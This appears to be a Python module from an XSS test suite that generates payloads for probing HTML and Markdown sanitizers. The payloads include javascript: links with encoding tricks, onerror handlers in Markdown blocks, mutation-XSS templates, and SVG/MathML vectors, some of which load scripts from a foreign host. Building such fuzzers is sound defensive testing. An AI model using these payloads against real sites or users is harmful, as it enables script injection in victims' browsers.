"""Rules for what parsers make of a text: Markdown, SVG, HTML that changes when parsed again."""

from __future__ import annotations

from collections.abc import Mapping
from random import Random
from types import MappingProxyType
from typing import Final

from tests.xss.grammar import RULES, Rule, markup
from tests.xss.reports import ADDRESSES, FOREIGN, SCRIPTS


def link(number: int, pick: Random) -> str:
    """Links and pictures of Markdown whose address or title does what it should not."""
    target = pick.choice(ADDRESSES)(number)
    bare = target.replace(" ", "%20").replace("\n", "&#10;").replace("\t", "&Tab;")
    handler = f"onerror={pick.choice(SCRIPTS)(number)}"
    return pick.choice(
        (
            f"[x]({bare})",
            f"[x](<{target}>)",
            f"[x][{number}]\n\n[{number}]: {bare}",
            f"<{bare}>",
            f"![x]({bare})",
            f"![x](//{FOREIGN}/{number}.png)",
            f"![x](https://{FOREIGN}/{number}.png '\"{handler}')",
            f'![x"{handler} y="](x)',
            f'[x]({bare} "\' {handler}")',
            f"[![x](//{FOREIGN}/{number})]({bare})",
            f"[x](https://ok.example/'{handler}')",
            f'[x](https://ok.example/"><img/src=x/{handler}>)',
            f"[<img src=x {handler}>](https://ok.example)",
            f"[x](\\{bare})",
            f"[x]({bare.replace(':', '&#58;')})",
            f"[x]({bare.replace(':', '&colon;')})",
            f"[x]({bare.replace(':', '%3A')})",
            f"[x](&#106;avascript:xss({number}))",
            f"[x](&#x6A;&#x61;vascript&#58;xss({number}))",
        )
    )


def block(number: int, pick: Random) -> str:
    """Blocks of Markdown with HTML in them, or with an end in the wrong place."""
    inner = f"<img src=x onerror={pick.choice(SCRIPTS)(number)}>"
    return pick.choice(
        (
            f'```"><script>xss({number})</script>\nx\n```',
            f"```x onload=xss({number})\n{inner}\n```",
            f"`{inner}`",
            f"``` `{inner}` ```",
            f"    {inner}",
            f"# {inner}",
            f"> {inner}",
            f"- {inner}\n  - {inner}",
            f"1. {inner}",
            f"| {inner} | x |\n|---|---|\n| {inner} | y |",
            f'| x |\n|:-:" onclick=xss({number}) |\n| y |',
            f"<div>\n\n{inner}\n\n</div>",
            f"<script>\n\nxss({number})\n\n</script>",
            f"<!--\n\n--> {inner}",
            f"\\{inner}",
            f"*x*{inner}**y**",
            f"&lt;img src=x onerror=xss({number})&gt;",
            f"x\n==={inner}",
            f"<?php {inner} ?>",
            f"<![CDATA[ {inner} ]]>",
            f"{{{{fakta<img src=x onerror=xss({number})>}}}}",
            f"{{{{ xss({number}) }}}}",
        )
    )


# Each is read one way the first time and another way the second.
_CHANGING: Final = (
    '<noscript><p title="</noscript>{}">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{}">',
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    '<svg></p><style><a id="</style>{}">',
    '<svg><style><img title="</style>{}"></svg>',
    '<math><annotation-xml encoding="text/html"><style>{}</style></annotation-xml></math>',
    "<svg><desc><noembed></desc>{}</noembed></svg>",
    "<svg><foreignObject><math><mi><style><!--</style>{}--></math></svg>",
    "<table><tr><td><svg><style><td><!--</style>{}-->",
    '<xmp><p title="</xmp>{}">',
    "<listing>&lt;/listing&gt;{}</listing>",
    '<textarea><p title="</textarea>{}">',
    '<title><p title="</title>{}">',
    '<iframe><p title="</iframe>{}">',
    '<noembed><p title="</noembed>{}">',
    '<noframes><p title="</noframes>{}">',
    "<template>{}</template>",
    "<template shadowrootmode=open>{}</template>",
    "<select><template><style><!--</style>{}--></template></select>",
    "<select><iframe><select><p title='</iframe>{}'>",
    '<p id="`">`{}`',
    "<a><table><a>{}",
    "<b><p><b><p><b><p>{}",
    '<math><mi//xlink:href="data:x,<script>xss(0)</script>">{}',
    "<svg><script>/<1/>{}</script>",
    "<svg><title><p><style>{}</style>",
    "<dialog open><form method=dialog>{}</form></dialog>",
    "<frameset>{}</frameset>",
    "<!DOCTYPE x [<!ENTITY y '{}'>]><x>&y;</x>",
)


def changing(number: int, pick: Random) -> str:
    """Markup that changes its meaning when it is parsed a second time (mutation XSS)."""
    inner = markup(number, pick) if pick.random() < 1 / 3 else f"<img src=x onerror=xss({number})>"
    return pick.choice(_CHANGING).replace("{}", inner)


_SVG: Final = (
    "<svg><script>{}</script></svg>",
    '<svg><script href="data:text/javascript,{}"></script></svg>',
    "<svg><script xlink:href=//{host}/{n}></script></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>top.{}</script>'></iframe></foreignObject></svg>",
    "<svg><a href=javascript:{}><rect width=99 height=99></rect></a></svg>",
    "<svg><animate attributeName=href values=javascript:{} dur=1s></animate></svg>",
    "<svg><a><set attributeName=href to=javascript:{}></set><text>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=x><script>{}</script></svg>#x"/></svg>',
    "<svg><feImage href=//{host}/{n}></feImage></svg>",
    "<svg><image xlink:href=//{host}/{n} onerror={}></image></svg>",
    "<svg><handler type=text/javascript>{}</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload={}>",
    "<?xml-stylesheet href=//{host}/{n} type=text/xsl?><svg onload={}/>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
    "<math><semantics><annotation-xml encoding=text/html><img src=x onerror={}>",
)


def drawing(number: int, pick: Random) -> str:
    """SVG and MathML that run a script or load something."""
    report = pick.choice(SCRIPTS)(number)
    pattern = pick.choice(_SVG).replace("{host}", FOREIGN).replace("{n}", str(number))
    return pattern.replace("{}", report)


EVERY_RULE: Final[Mapping[str, Rule]] = MappingProxyType(
    {
        **RULES,
        "Markdown links and pictures": link,
        "Markdown blocks": block,
        "mutation": changing,
        "SVG and MathML": drawing,
    }
)
